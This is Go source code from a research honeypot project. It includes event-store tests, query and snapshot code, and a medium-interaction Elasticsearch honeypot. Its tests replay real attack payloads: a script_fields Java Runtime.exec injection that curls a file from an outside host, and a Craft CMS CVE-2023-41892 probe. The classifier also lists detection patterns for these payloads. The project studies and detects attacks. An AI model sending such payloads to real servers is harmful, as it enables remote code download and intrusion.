				t.Fatalf("shards=%d %+v: UniqueIPs %d != %d", shards, q, b, a)
			}
			ha, hb := one.HourlyUnique(q), many.HourlyUnique(q)
			ca, cb := one.CumulativeNew(q), many.CumulativeNew(q)
			for h := range ha {
				if ha[h] != hb[h] || ca[h] != cb[h] {
					t.Fatalf("shards=%d %+v: hourly series diverge at hour %d", shards, q, h)
				}
			}
			la, lb := one.Creds(q), many.Creds(q)
			if len(la) != len(lb) {
				t.Fatalf("shards=%d %+v: creds len %d != %d", shards, q, len(lb), len(la))
			}
			for i := range la {
				if la[i] != lb[i] {
					t.Fatalf("shards=%d %+v: cred %d: %+v != %+v", shards, q, i, lb[i], la[i])
				}
			}
		}
		if a, b := one.Events(), many.Events(); a != b {
			t.Fatalf("shards=%d: events %d != %d", shards, b, a)
		}
	}
}

// TestQueryDayRange pins day-range semantics: UniqueIPs restricts to
// records active inside the range, and the hourly series cover exactly
// the selected hours.
func TestQueryDayRange(t *testing.T) {
	s := New(start, 20, nil)
	s.Record(ev("192.0.2.1", lowInfo(core.MSSQL), core.EventConnect, 0))      // day 0
	s.Record(ev("192.0.2.2", lowInfo(core.MSSQL), core.EventConnect, 5*24))   // day 5
	s.Record(ev("192.0.2.3", lowInfo(core.MSSQL), core.EventConnect, 19*24))  // day 19

	if got := s.UniqueIPs(Query{Days: DayRange{From: 0, To: 1}}); got != 1 {
		t.Fatalf("day 0 IPs = %d", got)
	}
	if got := s.UniqueIPs(Query{Days: DayRange{From: 5, To: 20}}); got != 2 {
		t.Fatalf("day 5+ IPs = %d", got)
	}
	if got := s.UniqueIPs(Query{}); got != 3 {
		t.Fatalf("all IPs = %d", got)
	}

	h := s.HourlyUnique(Query{Days: DayRange{From: 5, To: 6}})
	if len(h) != 24 {
		t.Fatalf("ranged hourly len = %d", len(h))
	}
	if h[0] != 1 {
		t.Fatalf("hour 5*24 count = %d", h[0])
	}
	c := s.CumulativeNew(Query{Days: DayRange{From: 5, To: 6}})
	if c[0] != 1 || c[23] != 1 {
		t.Fatalf("ranged cumulative = %v", c)
	}

	// Out-of-range To clamps to the window end.
	if got := len(s.HourlyUnique(Query{Days: DayRange{From: 0, To: 99}})); got != 20*24 {
		t.Fatalf("clamped hourly len = %d", got)
	}
}

// TestSnapshotMatchesStore: a quiesced store and its snapshot must agree
// on every query, and the snapshot must be immune to later ingest.
func TestSnapshotMatchesStore(t *testing.T) {
	s := seedStore(t, 4)
	snap := s.Snapshot()

	queries := []Query{
		{},
		{DBMS: core.MSSQL, Tier: LowTier},
		{Tier: MediumHighTier},
		{Days: DayRange{From: 2, To: 10}},
	}
	for _, q := range queries {
		if a, b := s.Logins(q), snap.Logins(q); a != b {
			t.Fatalf("%+v: Logins store=%d snap=%d", q, a, b)
		}
		if a, b := s.UniqueIPs(q), snap.UniqueIPs(q); a != b {
			t.Fatalf("%+v: UniqueIPs store=%d snap=%d", q, a, b)
		}
		ha, hb := s.HourlyUnique(q), snap.HourlyUnique(q)
		ca, cb := s.CumulativeNew(q), snap.CumulativeNew(q)
		for h := range ha {
			if ha[h] != hb[h] || ca[h] != cb[h] {
				t.Fatalf("%+v: hourly series diverge at %d", q, h)
			}
		}
	}
	if a, b := s.Events(), snap.Events(); a != b {
		t.Fatalf("events store=%d snap=%d", a, b)
	}
	recs, live := snap.Recs(), s.IPs()
	if len(recs) != len(live) {
		t.Fatalf("recs %d != %d", len(recs), len(live))
	}
	for i := range recs {
		if recs[i].Addr != live[i].Addr || recs[i].TotalLogins() != live[i].TotalLogins() {
			t.Fatalf("rec %d differs", i)
		}
	}

	// Later ingest must not leak into the snapshot (deep copy).
	addr := recs[0].Addr
	before := snap.IP(addr).TotalLogins()
	e := core.Event{
		Time: start, Src: netip.AddrPortFrom(addr, 999),
		Honeypot: lowInfo(core.MSSQL), Kind: core.EventLogin, User: "sa", Pass: "x",
	}
	for i := 0; i < 10; i++ {
		s.Record(e)
	}
	if got := snap.IP(addr).TotalLogins(); got != before {
		t.Fatalf("snapshot mutated by later ingest: %d -> %d", before, got)
	}
}

// TestConcurrentRecordBatchSnapshot exercises the shard locking under
// race detection: one producer per shard committing shard-affine batches
// (the bus delivery pattern) while a reader repeatedly snapshots and
// queries. Run with -race in CI.
func TestConcurrentRecordBatchSnapshot(t *testing.T) {
	const shards = 4
	s := NewSharded(start, 20, nil, shards)

	// Pre-partition source addresses by shard, as the bus does.
	perShard := make([][]netip.Addr, shards)
	for i := 0; i < 1024; i++ {
		addr := netip.AddrFrom4([4]byte{203, 0, byte(i >> 8), byte(i)})
		si := core.ShardOf(addr, shards)
		perShard[si] = append(perShard[si], addr)
	}

	var wg sync.WaitGroup
	for si := 0; si < shards; si++ {
		wg.Add(1)
		go func(addrs []netip.Addr) {
			defer wg.Done()
			for round := 0; round < 20; round++ {
				batch := make([]core.Event, 0, len(addrs))
				for _, a := range addrs {
					e := core.Event{
						Time:     start.Add(time.Duration(round) * time.Hour),
						Src:      netip.AddrPortFrom(a, 1000),
						Honeypot: lowInfo(core.MSSQL),
						Kind:     core.EventLogin,
					}
					e.User, e.Pass = "sa", "123"
					batch = append(batch, e)
				}
				if err := s.RecordBatch(batch); err != nil {
					t.Error(err)
					return
				}
			}
		}(perShard[si])
	}

	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 50; i++ {
			snap := s.Snapshot()
			// Every observed state must be internally consistent.
			if got := snap.Logins(Query{}); got != snap.Logins(Query{DBMS: core.MSSQL}) {
				t.Errorf("snapshot logins inconsistent: %d", got)
				return
			}
			_ = snap.UniqueIPs(Query{Tier: LowTier})
			_ = s.Logins(Query{})
			_ = s.IPs()
		}
	}()

	wg.Wait()
	<-done

	want := int64(1024 * 20)
	if got := s.Logins(Query{}); got != want {
		t.Fatalf("final logins = %d, want %d", got, want)
	}
	if got := s.Events(); got != want {
		t.Fatalf("final events = %d, want %d", got, want)
	}
}

// TestShardAffinity pins the bus/store affinity contract: a batch of
// events whose sources all hash to one core.ShardOf shard must be
// committed under exactly one shard of a store with the same shard count.
func TestShardAffinity(t *testing.T) {
	const n = 8
	s := NewSharded(start, 20, nil, n)
	if s.Shards() != n {
		t.Fatalf("Shards = %d", s.Shards())
	}
	for i := 0; i < 256; i++ {
		addr := netip.AddrFrom4([4]byte{198, 18, byte(i >> 8), byte(i)})
		si := core.ShardOf(addr, n)
		s.Record(core.Event{Time: start, Src: netip.AddrPortFrom(addr, 1), Honeypot: lowInfo(core.MSSQL), Kind: core.EventConnect})
		sh := s.shards[si]
		sh.mu.Lock()
		_, ok := sh.ips[addr]
		sh.mu.Unlock()
		if !ok {
			t.Fatalf("addr %v not in shard %d", addr, si)
		}
	}
}
