package evstore

import (
	"net/netip"
	"sort"

	"decoydb/internal/core"
)

// Tier selects honeypot interaction tiers in a Query.
type Tier int

// Tiers. The paper splits most analyses between the low-interaction
// credential traps and the medium/high-interaction honeypots.
const (
	AllTiers Tier = iota
	LowTier
	MediumHighTier
)

func (t Tier) matchLevel(l core.Level) bool {
	switch t {
	case LowTier:
		return l == core.Low
	case MediumHighTier:
		return l >= core.Medium
	}
	return true
}

func (t Tier) matchLow(low bool) bool {
	switch t {
	case LowTier:
		return low
	case MediumHighTier:
		return !low
	}
	return true
}

// DayRange selects experiment days [From, To). The zero value selects
// the whole window; To <= 0 means "through the end of the window".
type DayRange struct {
	From int
	To   int
}

// IsZero reports whether the range is the whole-window zero value.
func (d DayRange) IsZero() bool { return d.From == 0 && d.To == 0 }

// bounds clamps the range to [0, days).
func (d DayRange) bounds(days int) (lo, hi int) {
	lo, hi = d.From, d.To
	if hi <= 0 || hi > days {
		hi = days
	}
	if lo < 0 {
		lo = 0
	}
	if lo > hi {
		lo = hi
	}
	return lo, hi
}

// Mask returns the day bitmask covering the range within a days-long
// window. The mask is 64 bits wide — the store rejects longer windows
// at construction, so no representable window truncates.
func (d DayRange) Mask(days int) uint64 {
	lo, hi := d.bounds(days)
	var m uint64
	for day := lo; day < hi; day++ {
		m |= 1 << uint(day)
	}
	return m
}

// Query selects a slice of the capture. The zero value selects
// everything. It replaces the old per-dimension method family
// (Creds/CredsTier, TotalLogins/TotalLoginsTier, bare predicate
// arguments): one options struct feeds every read path.
//
// Field applicability per method:
//
//   - Creds, Logins: DBMS and Tier. Credential observations are
//     whole-window aggregates, so Days and Where do not apply.
//   - UniqueIPs: all four fields. A record matches when Where accepts it
//     and some activity matches DBMS/Tier with an active day inside Days.
//   - HourlyUnique, CumulativeNew: DBMS and Days. The hourly series
//     exist for the low tier only (Figure 2), so Tier is implicit.
//   - classify and ActiveDaysMask use MatchKey: DBMS and Tier.
type Query struct {
	DBMS string // "" = all DBMS
	Tier Tier
	Days DayRange
	// Where is an optional record-level predicate, applied on top of the
	// structured fields (UniqueIPs only).
	Where func(*IPRecord) bool
}

// MatchKey reports whether a honeypot grouping matches the query's DBMS
// and Tier. Days and Where do not participate: they are record- and
// time-scoped, not key-scoped.
func (q Query) MatchKey(k PerKey) bool {
	if q.DBMS != "" && k.DBMS != q.DBMS {
		return false
	}
	return q.Tier.matchLevel(k.Level)
}

// Match reports whether a record matches the full query within a
// days-long experiment window. The serving layer uses it to page
// through snapshot records without duplicating the matching rules.
func (q Query) Match(r *IPRecord, days int) bool { return q.matchRecord(r, days) }

// matchRecord reports whether a record matches the full query.
func (q Query) matchRecord(r *IPRecord, days int) bool {
	if q.Where != nil && !q.Where(r) {
		return false
	}
	if q.DBMS == "" && q.Tier == AllTiers && q.Days.IsZero() {
		return true
	}
	mask := uint64(0)
	if !q.Days.IsZero() {
		mask = q.Days.Mask(days)
	}
	for k, a := range r.Per {
		if !q.MatchKey(k) {
			continue
		}
		if mask == 0 || a.ActiveDays&mask != 0 {
			return true
		}
	}
	return false
}

// CredCount is a credential with its observation count.
type CredCount struct {
	Cred
	Count int64
}

// mergeCreds folds tier-filtered credential counts from src into dst,
// collapsing the Low dimension: the result is keyed by (dbms, user, pass).
func mergeCreds(dst, src map[Cred]int64, q Query) {
	for c, n := range src {
		if q.DBMS != "" && c.DBMS != q.DBMS {
			continue
		}
		if !q.Tier.matchLow(c.Low) {
			continue
		}
		dst[Cred{DBMS: c.DBMS, User: c.User, Pass: c.Pass}] += n
	}
}

// sortCreds flattens a merged credential map, sorted by descending count
// then user/pass.
func sortCreds(merged map[Cred]int64) []CredCount {
	out := make([]CredCount, 0, len(merged))
	for c, n := range merged {
		out = append(out, CredCount{Cred: c, Count: n})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		if out[i].User != out[j].User {
			return out[i].User < out[j].User
		}
		return out[i].Pass < out[j].Pass
	})
	return out
}

// loginSum totals login observations matching the query's DBMS and Tier.
func loginSum(src map[Cred]int64, q Query) int64 {
	var n int64
	for c, cnt := range src {
		if q.DBMS != "" && c.DBMS != q.DBMS {
			continue
		}
		if !q.Tier.matchLow(c.Low) {
			continue
		}
		n += cnt
	}
	return n
}

// Creds returns the aggregated credentials matching q (DBMS, Tier),
// merged by (dbms, user, pass) and sorted by descending count then
// user/pass.
func (s *Store) Creds(q Query) []CredCount {
	merged := make(map[Cred]int64)
	for _, sh := range s.shards {
		sh.mu.Lock()
		mergeCreds(merged, sh.creds, q)
		sh.mu.Unlock()
	}
	return sortCreds(merged)
}

// Logins sums the login attempts matching q (DBMS, Tier).
func (s *Store) Logins(q Query) int64 {
	var n int64
	for _, sh := range s.shards {
		sh.mu.Lock()
		n += loginSum(sh.creds, q)
		sh.mu.Unlock()
	}
	return n
}

// UniqueIPs reports the number of sources matching q. The zero Query
// counts every source seen.
func (s *Store) UniqueIPs(q Query) int {
	n := 0
	for _, sh := range s.shards {
		sh.mu.Lock()
		for _, r := range sh.ips {
			if q.matchRecord(r, s.days) {
				n++
			}
		}
		sh.mu.Unlock()
	}
	return n
}

// hourSpan converts the query's day range into hour bounds.
func hourSpan(q Query, days int) (lo, hi int) {
	dlo, dhi := q.Days.bounds(days)
	return dlo * 24, dhi * 24
}

// HourlyUnique returns the per-hour unique-client counts on the low tier
// for q.DBMS ("" = all), over q.Days (zero = whole window). Shards
// partition by source address, so per-hour counts sum across shards.
func (s *Store) HourlyUnique(q Query) []int {
	lo, hi := hourSpan(q, s.days)
	out := make([]int, hi-lo)
	for _, sh := range s.shards {
		sh.mu.Lock()
		if hs := sh.hourly[q.DBMS]; hs != nil {
			for h := lo; h < hi; h++ {
				out[h-lo] += len(hs[h])
			}
		}
		sh.mu.Unlock()
	}
	return out
}

// CumulativeNew returns, per hour over q.Days, the cumulative number of
// distinct clients first seen up to that hour on the low tier for q.DBMS
// ("" = all). With a restricted day range the count starts from zero at
// the range start. Disjoint shard address sets make the per-shard
// cumulative counts sum exactly.
func (s *Store) CumulativeNew(q Query) []int {
	lo, hi := hourSpan(q, s.days)
	out := make([]int, hi-lo)
	for _, sh := range s.shards {
		sh.mu.Lock()
		hs := sh.hourly[q.DBMS]
		if hs == nil {
			sh.mu.Unlock()
			continue
		}
		seen := make(map[netip.Addr]struct{})
		for h := lo; h < hi; h++ {
			for a := range hs[h] {
				seen[a] = struct{}{}
			}
			out[h-lo] += len(seen)
		}
		sh.mu.Unlock()
	}
	return out
}
