package evstore

import (
	"net/netip"
	"sort"
	"time"
)

// Snapshot is an immutable point-in-time view of the whole store, merged
// across shards. The analysis/report layer queries a Snapshot instead of
// the live Store: one lock pass at construction, then every Table 1–12
// experiment reads lock-free from the same consistent dataset. All data
// is deep-copied, so a Snapshot stays valid and race-free while ingest
// continues.
type Snapshot struct {
	start  time.Time
	days   int
	events int64
	recs   []*IPRecord // sorted by address
	byAddr map[netip.Addr]*IPRecord
	creds  map[Cred]int64
	hourly map[string][]map[netip.Addr]struct{}
}

// Snapshot builds an immutable merged view. All shards are locked for
// the duration of the copy, so the view is consistent across shards even
// under concurrent ingest.
func (s *Store) Snapshot() *Snapshot {
	for _, sh := range s.shards {
		sh.mu.Lock()
	}
	defer func() {
		for _, sh := range s.shards {
			sh.mu.Unlock()
		}
	}()

	snap := &Snapshot{
		start:  s.start,
		days:   s.days,
		byAddr: make(map[netip.Addr]*IPRecord),
		creds:  make(map[Cred]int64),
		hourly: make(map[string][]map[netip.Addr]struct{}),
	}
	for _, sh := range s.shards {
		snap.events += sh.events
		for _, r := range sh.ips {
			c := r.clone()
			snap.byAddr[c.Addr] = c
			snap.recs = append(snap.recs, c)
		}
		for c, n := range sh.creds {
			snap.creds[c] += n
		}
		for dbms, hs := range sh.hourly {
			merged := snap.hourly[dbms]
			if merged == nil {
				merged = make([]map[netip.Addr]struct{}, s.days*24)
				snap.hourly[dbms] = merged
			}
			for h, set := range hs {
				if set == nil {
					continue
				}
				if merged[h] == nil {
					merged[h] = make(map[netip.Addr]struct{}, len(set))
				}
				for a := range set {
					merged[h][a] = struct{}{}
				}
			}
		}
	}
	sort.Slice(snap.recs, func(i, j int) bool { return snap.recs[i].Addr.Less(snap.recs[j].Addr) })
	return snap
}

// Start returns the experiment start time.
func (v *Snapshot) Start() time.Time { return v.start }

// Days returns the experiment length in days.
func (v *Snapshot) Days() int { return v.days }

// Events returns the number of events ingested at snapshot time.
func (v *Snapshot) Events() int64 { return v.events }

// Recs returns all IP records sorted by address. The slice and records
// are owned by the snapshot; callers must treat them as read-only.
func (v *Snapshot) Recs() []*IPRecord { return v.recs }

// IP returns the record for addr, or nil.
func (v *Snapshot) IP(addr netip.Addr) *IPRecord { return v.byAddr[addr] }

// Creds returns the aggregated credentials matching q (DBMS, Tier),
// merged by (dbms, user, pass) and sorted by descending count then
// user/pass.
func (v *Snapshot) Creds(q Query) []CredCount {
	merged := make(map[Cred]int64)
	mergeCreds(merged, v.creds, q)
	return sortCreds(merged)
}

// Logins sums the login attempts matching q (DBMS, Tier).
func (v *Snapshot) Logins(q Query) int64 {
	return loginSum(v.creds, q)
}

// Select returns the records matching q, in address order. The records
// are owned by the snapshot; callers must treat them as read-only.
func (v *Snapshot) Select(q Query) []*IPRecord {
	var out []*IPRecord
	for _, r := range v.recs {
		if q.matchRecord(r, v.days) {
			out = append(out, r)
		}
	}
	return out
}

// UniqueIPs reports the number of sources matching q. The zero Query
// counts every source seen.
func (v *Snapshot) UniqueIPs(q Query) int {
	n := 0
	for _, r := range v.recs {
		if q.matchRecord(r, v.days) {
			n++
		}
	}
	return n
}

// HourlyUnique returns the per-hour unique-client counts on the low tier
// for q.DBMS ("" = all), over q.Days (zero = whole window).
func (v *Snapshot) HourlyUnique(q Query) []int {
	lo, hi := hourSpan(q, v.days)
	out := make([]int, hi-lo)
	if hs := v.hourly[q.DBMS]; hs != nil {
		for h := lo; h < hi; h++ {
			out[h-lo] = len(hs[h])
		}
	}
	return out
}

// CumulativeNew returns, per hour over q.Days, the cumulative number of
// distinct clients first seen up to that hour on the low tier for q.DBMS
// ("" = all).
func (v *Snapshot) CumulativeNew(q Query) []int {
	lo, hi := hourSpan(q, v.days)
	out := make([]int, hi-lo)
	hs := v.hourly[q.DBMS]
	if hs == nil {
		return out
	}
	seen := make(map[netip.Addr]struct{})
	for h := lo; h < hi; h++ {
		for a := range hs[h] {
			seen[a] = struct{}{}
		}
		out[h-lo] = len(seen)
	}
	return out
}
