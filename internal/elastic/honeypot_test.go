package elastic

import (
	"bufio"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"decoydb/internal/core"
	"decoydb/internal/hptest"
)

func esInfo() core.Info {
	return core.Info{DBMS: core.Elastic, Level: core.Medium, Port: 9200, Config: core.ConfigDefault, Group: core.GroupMedium}
}

// get performs one HTTP request over the raw connection and returns the
// response body.
func request(t *testing.T, conn net.Conn, br *bufio.Reader, method, target, body string) (int, string) {
	t.Helper()
	req := method + " " + target + " HTTP/1.1\r\nHost: victim:9200\r\n"
	if body != "" {
		req += "Content-Type: application/json\r\nContent-Length: " +
			strconv.Itoa(len(body)) + "\r\n"
	}
	req += "\r\n" + body
	if _, err := conn.Write([]byte(req)); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatalf("read response: %v", err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

func TestRootBanner(t *testing.T) {
	hp := New()
	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		status, body := request(t, conn, br, "GET", "/", "")
		if status != 200 {
			t.Fatalf("status = %d", status)
		}
		var banner map[string]any
		if err := json.Unmarshal([]byte(body), &banner); err != nil {
			t.Fatalf("banner not JSON: %v", err)
		}
		ver := banner["version"].(map[string]any)
		if ver["number"] != Version {
			t.Fatalf("version = %v", ver["number"])
		}
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "GET /" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestScoutingEndpoints(t *testing.T) {
	hp := New()
	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		if status, body := request(t, conn, br, "GET", "/_cat/indices", ""); status != 200 || !strings.Contains(body, "customers") {
			t.Fatalf("indices: %d %q", status, body)
		}
		if status, body := request(t, conn, br, "GET", "/_cluster/health", ""); status != 200 || !strings.Contains(body, `"status":"green"`) {
			t.Fatalf("health: %d %q", status, body)
		}
		if status, body := request(t, conn, br, "GET", "/_nodes", ""); status != 200 || !strings.Contains(body, Version) {
			t.Fatalf("nodes: %d %q", status, body)
		}
	})
	cmds := hptest.Commands(events)
	want := []string{"GET /_cat/indices", "GET /_cluster/health", "GET /_nodes"}
	for i, w := range want {
		if cmds[i] != w {
			t.Fatalf("commands = %v, want %v", cmds, want)
		}
	}
}

// TestLuciferScriptField replays the shape of the paper's Listing 5: a
// search whose source parameter carries a Java Runtime.exec payload.
func TestLuciferScriptField(t *testing.T) {
	hp := New()
	payload := `{"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"exp":{"script":"import java.util.*;import java.io.*;BufferedReader br = new BufferedReader(new InputStreamReader(Runtime.getRuntime().exec(\"curl -o /tmp/sss6 http://198.51.100.9:8080/sss6\").getInputStream()));"}}}`
	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		status, body := request(t, conn, br, "POST", "/_search", payload)
		if status != 200 {
			t.Fatalf("status = %d", status)
		}
		// The PoC expects a hit carrying the script field.
		if !strings.Contains(body, `"fields":{"exp"`) {
			t.Fatalf("search body = %q", body)
		}
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "SEARCH SCRIPT-EXEC" {
		t.Fatalf("commands = %v", cmds)
	}
	if raw := events[1].Raw; !strings.Contains(raw, "Runtime.getRuntime") {
		t.Fatalf("raw excerpt lost the payload: %q", raw)
	}
}

func TestCraftCMSProbe(t *testing.T) {
	hp := New()
	body := `action=conditions/render&test[userCondition]=craft\elements\conditions\users\UserCondition&config={"name":"test[userCondition]","as xyz":{"class":"\\GuzzleHttp\\Psr7\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}`
	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		request(t, conn, br, "POST", "/index.php?p=admin/actions/conditions/render", body)
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "CVE-2023-41892 PROBE" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestVMwareRecon(t *testing.T) {
	hp := New()
	soap := `<soap:Envelope><soap:Body><RetrieveServiceContent xmlns="urn:vim25"><_this type="ServiceInstance">ServiceInstance</_this></RetrieveServiceContent></soap:Body></soap:Envelope>`
	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		request(t, conn, br, "POST", "/sdk", soap)
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "CVE-2021-22005 PROBE" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestIndexPathTemplating(t *testing.T) {
	hp := New()
	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		request(t, conn, br, "GET", "/secret-index-7/_search?q=*", "")
		request(t, conn, br, "GET", "/another/_mapping", "")
		request(t, conn, br, "GET", "/justanindex", "")
	})
	cmds := hptest.Commands(events)
	want := []string{"GET /{index}/_search", "GET /{index}/_mapping", "GET /{index}"}
	for i, w := range want {
		if cmds[i] != w {
			t.Fatalf("commands = %v, want %v", cmds, want)
		}
	}
}

func TestMalformedHTTPLogged(t *testing.T) {
	hp := New()
	events := hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
		conn.Write([]byte("\x16\x03\x01\x02\x00garbage-tls-hello"))
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "PROTOCOL-ERROR" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestOverrides(t *testing.T) {
	hp := New()
	hp.Overrides = map[string]string{"GET /_custom": `{"custom":true}`}
	hptest.Run(t, hp.Handler(), esInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		status, body := request(t, conn, br, "GET", "/_custom", "")
		if status != 200 || body != `{"custom":true}` {
			t.Fatalf("override = %d %q", status, body)
		}
	})
}
