// Package elastic implements a medium-interaction Elasticsearch honeypot
// modelled on Elasticpot, which the paper deployed on port 9200. It
// emulates the HTTP API of an old, unauthenticated Elasticsearch node
// (1.4.2 — the dynamic-scripting era attackers still probe for), serves
// customisable JSON responses for the cluster/node/index endpoints, and
// captures script-field payloads such as the Lucifer/Rudedevil injection
// in the paper's Listings 5–6.
package elastic

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"

	"decoydb/internal/core"
)

// Advertised identity.
const (
	Version     = "1.4.2"
	ClusterName = "elasticsearch"
	NodeName    = "Franklin Storm"
)

// MaxBody bounds request bodies read from clients.
const MaxBody = 1 << 20

// Honeypot is the Elasticsearch honeypot. Responses can be overridden per
// path prefix, mirroring Elasticpot's JSON-file customisation.
type Honeypot struct {
	// Overrides maps an exact "METHOD /path" to a canned JSON response.
	Overrides map[string]string
	// Indices lists the index names _cat/indices reports.
	Indices []string
}

// New returns an Elasticsearch honeypot with a plausible default index set.
func New() *Honeypot {
	return &Honeypot{
		Indices: []string{"bank", "customers", "logstash-2024.03.21", ".kibana"},
	}
}

// Handler returns a core.Handler bound to this honeypot.
func (h *Honeypot) Handler() core.Handler {
	return core.HandlerFunc(h.HandleConn)
}

// HandleConn serves HTTP/1.x requests on one connection.
func (h *Honeypot) HandleConn(ctx context.Context, conn net.Conn, s *core.Session) error {
	s.Connect()
	br := bufio.NewReaderSize(conn, 16384)
	bw := bufio.NewWriterSize(conn, 16384)
	for {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		req, err := http.ReadRequest(br)
		if err != nil {
			if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
				return nil
			}
			s.Command("PROTOCOL-ERROR", err.Error())
			return nil
		}
		body, _ := io.ReadAll(io.LimitReader(req.Body, MaxBody))
		req.Body.Close()

		action, raw := classifyRequest(req, body)
		s.Command(action, raw)

		status, payload := h.respond(req, body)
		if err := writeHTTP(bw, req, status, payload); err != nil {
			return err
		}
		if req.Close || strings.EqualFold(req.Header.Get("Connection"), "close") {
			return nil
		}
	}
}

// classifyRequest builds the normalised action token. Query-string exploit
// payloads (?source={...script...}) and body payloads both count: the
// Lucifer campaign delivered Java via the URL's source parameter.
func classifyRequest(req *http.Request, body []byte) (action, raw string) {
	p := req.URL.Path
	full := req.URL.String()
	if len(body) > 0 {
		full += " " + string(body)
	}
	probe := full
	if src := req.URL.Query().Get("source"); src != "" {
		probe += " " + src
	}
	switch {
	case strings.Contains(probe, "Runtime.getRuntime().exec"),
		strings.Contains(probe, "java.lang.Runtime"):
		return "SEARCH SCRIPT-EXEC", full
	case strings.Contains(probe, "script_fields"):
		return "SEARCH SCRIPT-FIELD", full
	case strings.Contains(probe, "conditions/render") && strings.Contains(probe, "GuzzleHttp"):
		// Craft CMS CVE-2023-41892 probe (paper Listing 14).
		return "CVE-2023-41892 PROBE", full
	case strings.Contains(probe, "vsphere") || strings.Contains(probe, "RetrieveServiceContent") ||
		strings.HasPrefix(p, "/sdk"):
		// VMware vCenter CVE-2021-22005 recon (paper Listing 12).
		return "CVE-2021-22005 PROBE", full
	}
	// Template the path: drop index names, keep API shape.
	tpl := p
	switch {
	case p == "/" || p == "":
		tpl = "/"
	case strings.HasPrefix(p, "/_cat/"):
		// keep
	case strings.HasPrefix(p, "/_cluster/"):
		// keep
	case strings.HasPrefix(p, "/_nodes"):
		tpl = "/_nodes"
	case strings.HasPrefix(p, "/_search"):
		tpl = "/_search"
	case strings.HasPrefix(p, "/_all"):
		tpl = "/_all"
	case strings.Contains(p, "/_search"):
		tpl = "/{index}/_search"
	case strings.Contains(p, "/_mapping"):
		tpl = "/{index}/_mapping"
	default:
		if !strings.HasPrefix(p, "/_") {
			tpl = "/{index}"
		}
	}
	return req.Method + " " + tpl, full
}

func (h *Honeypot) respond(req *http.Request, body []byte) (int, string) {
	key := req.Method + " " + req.URL.Path
	if h.Overrides != nil {
		if resp, ok := h.Overrides[key]; ok {
			return http.StatusOK, resp
		}
	}
	p := req.URL.Path
	switch {
	case p == "/" || p == "":
		return http.StatusOK, rootBanner()
	case strings.HasPrefix(p, "/_cat/indices"):
		var b strings.Builder
		for _, ix := range h.Indices {
			fmt.Fprintf(&b, "green open %s 5 1 1280 0 2.1mb 1mb\n", ix)
		}
		return http.StatusOK, b.String()
	case strings.HasPrefix(p, "/_cat/nodes"):
		return http.StatusOK, "172.17.0.2 172.17.0.2 14 96 0.03 d * " + NodeName + "\n"
	case strings.HasPrefix(p, "/_cluster/health"):
		return http.StatusOK, `{"cluster_name":"` + ClusterName + `","status":"green","timed_out":false,"number_of_nodes":1,"number_of_data_nodes":1,"active_primary_shards":5,"active_shards":5}`
	case strings.HasPrefix(p, "/_cluster/stats"):
		return http.StatusOK, `{"cluster_name":"` + ClusterName + `","status":"green","indices":{"count":4,"docs":{"count":5120}},"nodes":{"count":{"total":1}}}`
	case strings.HasPrefix(p, "/_nodes"):
		return http.StatusOK, nodesInfo()
	case strings.Contains(p, "_search") || req.URL.Query().Get("source") != "":
		return http.StatusOK, h.searchResult(req, body)
	case req.Method == http.MethodPut || req.Method == http.MethodPost:
		return http.StatusOK, `{"_index":"` + indexOf(p) + `","_type":"doc","_id":"1","_version":1,"created":true}`
	case req.Method == http.MethodDelete:
		return http.StatusOK, `{"acknowledged":true}`
	default:
		return http.StatusNotFound, `{"error":"IndexMissingException[[` + indexOf(p) + `] missing]","status":404}`
	}
}

// searchResult emulates a hits payload; for script-field exploits it
// answers the shape the public PoCs expect (a hit carrying the "exp"
// field) so attack scripts continue to their payload-fetch stage.
func (h *Honeypot) searchResult(req *http.Request, body []byte) string {
	probe := req.URL.String() + string(body)
	if strings.Contains(probe, "script_fields") {
		return `{"took":3,"timed_out":false,"_shards":{"total":5,"successful":5,"failed":0},"hits":{"total":1,"max_score":1.0,"hits":[{"_index":"bank","_type":"doc","_id":"1","_score":1.0,"fields":{"exp":[""]}}]}}`
	}
